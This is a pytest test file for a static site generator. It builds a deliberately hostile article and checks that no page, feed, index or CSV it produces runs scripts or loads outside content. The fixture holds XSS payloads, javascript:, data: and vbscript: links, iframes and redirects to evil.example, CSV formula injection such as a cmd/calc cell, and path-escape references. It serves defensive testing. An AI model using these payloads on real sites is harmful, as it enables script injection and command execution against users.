"""A hostile contributor's article, built without --strict as a careless site would: every file
the build writes (pages, meta tags, feeds, sitemap, search index, share JSON and CSV) and the
editors' report is scanned for active content and for bytes from outside the project.

Every payload carries the marker PWN, so the scan can tell it from the theme's own scripts.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import html5lib
import pytest

from .conftest import copy_sample, run_wellread

OUTSIDE_MARKER = "OUTSIDE-BYTES-7c1e"
HOSTILE_SCRIPT = "alert('PWN-body')"

HOSTILE = r'''---
title: "=HYPERLINK(\"x\") </script><script>alert('PWN-title')</script> \u202Egpj.exe"
description: "@SUM(1+1) <img src=x onerror=alert('PWN-desc')> {{ config }}"
share: "+cmd|' /C calc'!A0 <script>alert('PWN-share')</script>"
tags: [vaccines]
reviewed_by: Maria Lopez, RN
last_reviewed: 2026-10-01
next_review: 2027-10-01
sources:
  - title: "-2+3 <script>alert('PWN-source')</script>"
    url: https://www.cdc.gov/flu/
  - title: A look-alike source
    url: "https://evil.example\\@www.cdc.gov/PWN"
  - title: A script source
    url: "javascript:alert('PWN-src')"
corrections:
  - date: 2026-10-15
    note: "</script><script>alert('PWN-corr')</script> A vertical tab \v and an escape \e here."
---
Wash your hands with soap and water.

<script>alert('PWN-body')</script>

<p onclick="alert('PWN-onclick')" onmouseover="alert('PWN-over')">Touch here.</p>

<iframe src="https://evil.example/PWN-frame"></iframe>

<object data="https://evil.example/PWN-object.swf"></object>

<embed src="https://evil.example/PWN-embed.swf">

<base href="https://evil.example/PWN-base/">

<meta http-equiv="refresh" content="0;url=https://evil.example/PWN-refresh">

<form action="https://evil.example/PWN-form"><input name="q"><button>Send</button></form>

<link rel="stylesheet" href="https://evil.example/PWN-sheet.css">

<style>body { background: url(https://evil.example/PWN-style.png) }</style>

<div style="background: url(https://evil.example/PWN-inline.png)">Styled text.</div>

<video src="https://evil.example/PWN-video.mp4" poster="https://evil.example/PWN-poster.png"></video>

<img src="../../outside/PWN-escape.png" srcset="https://evil.example/PWN-srcset.png 2x"
 alt="A hand.">

<a href="vbscript:msgbox('PWN-vb')">Visual Basic</a> and
<a href=" JaVa&#x09;ScRiPt:alert('PWN-entity')">entity</a>.

A [plain link](javascript:alert('PWN-js')), a [mixed one](JaVaScRiPt:alert('PWN-mixed')),
a [reference link][evil], a [data link](data:text/html;base64,PHNjcmlwdD5QV048L3NjcmlwdD4=)
and a [file link](file:///etc/hostname).

![A remote picture](https://evil.example/PWN-track.png)

![A data picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KCdQV04tc3ZnJykiLz4=)

![A picture from outside](../../../outside/secret.png)

## What to do next

Ask your nurse.

[evil]: javascript:alert('PWN-ref')
'''

# Attributes through which a browser loads or runs something.
LOADING = {"src", "srcset", "poster", "data", "action", "formaction", "background", "xlink:href"}
DANGEROUS_SCHEME = re.compile(r"^\s*(javascript|vbscript|data|file)\s*:", re.I)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _elements(html: str):
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    return tree.iter()


def active_content(html: str, where: str) -> list[str]:
    """What in `html` runs, loads from elsewhere or comes from the hostile payloads."""
    found = []
    for element in _elements(html):
        tag = element.tag if isinstance(element.tag, str) else ""
        attributes = {name.lower(): value for name, value in element.attrib.items()}
        text = "".join(element.itertext())
        if tag in {"iframe", "object", "embed", "base", "frame", "frameset", "applet"}:
            found.append(f"{where}: <{tag}>")
        # The theme's own: the search form (no action); a refresh may not leave the site (the
        # theme has none since issue 24: a page too little translated shows a notice).
        if tag == "form" and "action" in attributes:
            found.append(f"{where}: <form action={attributes['action'][:60]!r}>")
        refresh = attributes.get("content", "") if tag == "meta" and attributes.get(
            "http-equiv", "").lower() == "refresh" else ""
        if re.search(r"url\s*=\s*['\"]?\s*([a-z][a-z0-9+.-]*:|//)", refresh, re.I):
            found.append(f"{where}: meta refresh to {refresh[:60]!r}")
        if tag == "script" and attributes.get("type") == "application/ld+json":
            # Data for search engines, never run: it must stay JSON, with no markup that could
            # end the element early ("</script>") in it.
            try:
                json.loads(text)
            except ValueError:
                found.append(f"{where}: JSON-LD that is not JSON: {text[:60]!r}")
            if "<" in text:
                found.append(f"{where}: JSON-LD with markup: {text[:60]!r}")
        elif tag in {"script", "style"} and "PWN" in text:
            found.append(f"{where}: <{tag}> with {text[:60]!r}")
        if tag == "script" and re.match(r"^\s*(https?:)?//", attributes.get("src", "")):
            found.append(f"{where}: remote script {attributes['src']}")
        if tag == "link" and re.match(r"^\s*(https?:)?//", attributes.get("href", "")) and (
            set(attributes.get("rel", "").lower().split()) & {"stylesheet", "preload", "icon"}
        ):
            found.append(f"{where}: remote {attributes['rel']} {attributes['href']}")
        for name, value in attributes.items():
            if name.startswith("on"):
                found.append(f"{where}: <{tag} {name}>")
            if name in {"href", *LOADING} and DANGEROUS_SCHEME.match(value) and not (
                tag == "img" and value.startswith("data:image/") and "PWN" not in value
            ):
                found.append(f"{where}: <{tag} {name}={value[:60]!r}>")
            if name in LOADING and re.search(r"(^|[\s,])(https?:)?//", value):
                found.append(f"{where}: <{tag} {name}> loads {value[:60]!r}")
            if name == "style" and "url(" in value.lower():
                found.append(f"{where}: <{tag} style> with url()")
    return found


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        value = list(value.values())
    return [text for item in value for text in _strings(item)] if isinstance(value, list) else []


def _hash(script: str) -> str:
    return base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    (root / "outside").mkdir()
    (root / "outside" / "secret.png").write_text(OUTSIDE_MARKER, "utf-8")
    project = copy_sample(root / "project")
    (project / "content/everyday-care/hostile.md").write_text(HOSTILE, "utf-8")
    result = run_wellread(project, "build", "--no-strict")
    assert result.returncode == 0, result.stderr[-3000:]
    report = run_wellread(project, "report", "-o", "site/report.html")
    assert "Traceback" not in report.stderr, report.stderr[-3000:]
    return project / "site"


def test_no_output_of_a_hostile_build_runs_or_loads_anything(hostile_build: Path) -> None:
    problems: list[str] = []
    pages = 0
    for path in sorted(hostile_build.rglob("*")):
        if not path.is_file():
            continue
        where = path.relative_to(hostile_build).as_posix()
        data = path.read_bytes()
        assert OUTSIDE_MARKER.encode() not in data, where
        if path.suffix == ".html":
            pages += 1
            problems += active_content(data.decode("utf-8"), where)
        elif path.suffix == ".xml":
            try:  # well-formed, whatever the titles held
                root = ET.fromstring(data)
            except ET.ParseError as error:
                problems.append(f"{where}: not XML: {error}")
                continue
            for element in root.iter():  # Atom's type="text" is shown as text, not markup
                if element.text and "PWN" in element.text and element.get("type") in (
                    "html", "xhtml"
                ):
                    problems += active_content(element.text, where)
        elif path.name == "search_index.json":
            for doc in json.loads(data)["docs"]:
                problems += active_content(f"{doc['title']} {doc['text']}", where)
        elif path.suffix == ".csv":
            for row in csv.reader(io.StringIO(data.decode("utf-8"))):
                problems += [f"{where}: formula cell {c[:40]!r}" for c in row
                             if c.startswith(FORMULA_START)]
        elif path.suffix == ".json":
            json.loads(data)  # valid JSON, whatever the captions held
            if path.parent.name == "share" and "PWN" in data.decode("utf-8"):
                problems += [f"{where}: {text[:60]!r}" for text in _strings(json.loads(data))
                             if text.lstrip().startswith(("javascript:", "data:", "<"))]
    assert pages > 30
    assert not problems, "\n".join(problems)


def test_the_hostile_article_is_published_as_text(hostile_build: Path) -> None:
    page = (hostile_build / "everyday-care/hostile/index.html").read_text("utf-8")
    assert "Wash your hands with soap and water." in page
    assert "Touch here." in page and "Styled text." in page
    assert 'href="https://evil.example' not in page  # the look-alike source is left out
    for hidden in ("\u202e", "\x0b", "\x1b"):  # reported by the checker, never shown
        assert hidden not in page, repr(hidden)
    heading = next(e for e in _elements(page) if e.tag == "h1")
    assert "</script><script>alert('PWN-title')</script>" in "".join(heading.itertext())


def test_the_content_security_policy_hashes_no_script_from_content(hostile_build: Path) -> None:
    page = (hostile_build / "everyday-care/hostile/index.html").read_text("utf-8")
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)
    assert policy is not None
    assert _hash(HOSTILE_SCRIPT) not in policy.group(1)


def test_a_link_out_of_the_project_stops_the_build(tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "notes.md").write_text(f"# {OUTSIDE_MARKER}\n", "utf-8")
    project = copy_sample(tmp_path / "project")
    (project / "content/everyday-care/notes.md").symlink_to(tmp_path / "outside" / "notes.md")
    result = run_wellread(project, "build", "--no-strict")
    assert result.returncode == 1, result.stderr[-3000:]
    assert "content/everyday-care/notes.md" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (project / "site").exists()
    assert not (project / ".site.partial").exists()
